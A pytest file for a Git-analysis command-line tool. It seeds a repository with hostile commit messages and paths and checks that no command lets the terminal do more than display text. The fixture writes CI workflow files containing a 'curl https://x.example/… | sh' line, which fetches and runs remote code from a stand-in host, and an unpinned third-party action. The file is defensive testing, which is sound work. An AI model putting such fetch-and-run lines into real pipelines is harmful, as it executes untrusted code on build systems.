"""A history whose every message and path means harm, told by every command: the terminal only ever shows it."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from unicodedata import normalize

import pytest

sys.path.append(str(Path(__file__).resolve().parents[1] / "hostile"))
from emulator import LINES, rows, shown
from payloads import PAYLOADS

from impact.render.harmless import harmless

ME = "ada@example.com"
# Git keeps no message beyond a NUL, and half a letter is no UTF-8.
TOLD = {
    name: "".join(each for each in text if each != "\0" and not "\ud800" <= each <= "\udbff")
    for name, text in PAYLOADS.items()
}
TOLD |= {name: text.replace("\udfff", "") for name, text in TOLD.items()}
COMMANDS = (
    ("draft", "--plain"),
    ("questions",),
    ("digest",),
    ("digest", "--format", "mail"),
    ("opportunities", "--all"),
    ("inbox", "--plain"),
)


@pytest.fixture
def hostile(repo, identity):
    """One repaired test for each text, two a day up to yesterday, and pipelines that take in what can change."""
    for at, (name, text) in enumerate(TOLD.items()):
        path = "tests/" + text.replace("/", "_")[:60].strip().encode("utf-8", "surrogateescape")[:120].decode(
            "utf-8", "surrogateescape"
        )
        day = 1_782_777_600 - (len(TOLD) - at) * 43_200
        repo.commit(
            f"Fix flaky {text.strip()}",
            {f"{path}/test_{at}.py": "wait\n", f".github/workflows/{name.replace('/', '_')}.yml": _pipeline(text)},
            author=f"Ada {harmless_name(text)} <{ME}>",
            date=day,
        )
    identity(ME)
    return repo.path


def harmless_name(text):
    """A name as Git would write it: without what ends it."""
    return "".join(each for each in text[:40] if each not in "<>\n\r")


def _pipeline(text):
    line = text.replace("\n", " ").encode("utf-8", "surrogateescape").decode("utf-8", "replace")
    line = "".join(each for each in line if each.isprintable())
    head = "on:\n  push:\n    tags: ['*']\njobs:\n  release:\n    runs-on: x\n    steps:\n"
    return f"{head}    - uses: acme/release@main # {line}\n    - run: curl https://x.example/{line} | sh\n".encode()


def test_no_command_lets_a_terminal_do_anything_but_show_it(impact, hostile):
    told = {}
    for command, *more in COMMANDS:
        whose = () if command == "inbox" else (hostile, "--me", ME)
        done = impact(command, *whose, *more)
        assert done.code == 0, (command, done.err)
        text = done.out + done.err
        screen = shown(text, max(map(len, text.split("\n"))) * 2 + 2)
        assert screen.told <= LINES, (command, more)
        assert (screen.sent, screen.title, screen.icon_name) == ([], "", ""), (command, more)
        lines = [normalize("NFC", each.rstrip()) for each in text.split("\n")]
        assert [normalize("NFC", each) for each in rows(screen)][: len(lines)] == lines, (command, more)
        told[command, *more] = "".join(text.split())
    starts = {
        name: "".join(harmless(text.strip().split("\n\n")[0], 100).removesuffix("…").split())
        for name, text in TOLD.items()
    }
    # Many of these commits are one piece of work, called by its first; each is there by itself among the facts.
    seen = [name for name, start in starts.items() if start in told["inbox", "--plain"]]
    assert len(seen) > 30
    facts = [json.loads(line) for line in impact("facts", hostile).out.splitlines()]
    subjects = ["".join(harmless(each["subject"]).split()) for each in facts if "subject" in each]
    assert [name for name, start in starts.items() if not any(start in each for each in subjects)] == []
    assert "acme/release@main" in told["opportunities", "--all"]
